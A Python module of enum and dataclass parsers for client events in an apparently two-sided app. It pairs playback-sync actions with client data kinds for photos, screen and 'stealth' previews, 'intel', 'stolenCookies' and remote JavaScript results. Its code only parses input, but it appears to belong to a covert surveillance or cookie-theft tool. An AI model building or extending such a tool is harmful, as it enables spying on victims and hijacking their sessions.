"""
Closed payload variants for the type-tagged client events.

``client_data`` and ``sync_action`` carry ``{type, ...}`` objects. They are
parsed into the enums below once, at the edge, so the services only ever see
known kinds; anything else parses to ``None`` and is dropped by the caller.
"""
from __future__ import annotations

from dataclasses import dataclass, field
from enum import Enum
from typing import Any, Optional


class ClientDataKind(str, Enum):
    PHOTO = "photo"
    SCREEN = "screen"
    INTEL = "intel"
    STEALTH = "stealth"
    COOKIES = "cookies"
    JS_RESULT = "js_result"

    @property
    def field(self) -> str:
        """Name of the session field this kind replaces."""
        return _CLIENT_DATA_FIELDS[self]

    @classmethod
    def parse(cls, value: Any) -> Optional["ClientDataKind"]:
        try:
            return cls(value)
        except ValueError:
            return None


_CLIENT_DATA_FIELDS = {
    ClientDataKind.PHOTO: "photo",
    ClientDataKind.SCREEN: "screenPreview",
    ClientDataKind.INTEL: "intel",
    ClientDataKind.STEALTH: "stealthPreview",
    ClientDataKind.COOKIES: "stolenCookies",
    ClientDataKind.JS_RESULT: "lastJsResult",
}


class SyncActionKind(str, Enum):
    PLAY = "PLAY"
    PAUSE = "PAUSE"
    SEEK = "SEEK"
    URL = "URL"
    CHAT = "CHAT"

    @property
    def is_playback(self) -> bool:
        return self is not SyncActionKind.CHAT


@dataclass(frozen=True)
class SyncAction:
    kind: SyncActionKind
    payload: Any = None
    # Action exactly as the leader sent it, relayed to followers unchanged
    raw: Optional[dict] = field(default=None, compare=False, hash=False)

    @classmethod
    def parse(cls, data: Any) -> Optional["SyncAction"]:
        if not isinstance(data, dict):
            return None
        try:
            kind = SyncActionKind(data.get("type"))
        except ValueError:
            return None
        return cls(kind=kind, payload=data.get("payload"), raw=dict(data))

    def to_dict(self) -> dict:
        if self.raw is not None:
            return dict(self.raw)
        return {"type": self.kind.value, "payload": self.payload}


def as_number(value: Any) -> Optional[float]:
    """Return ``value`` as a playback position, or None when it is not numeric."""
    if isinstance(value, bool) or not isinstance(value, (int, float)):
        return None
    return value
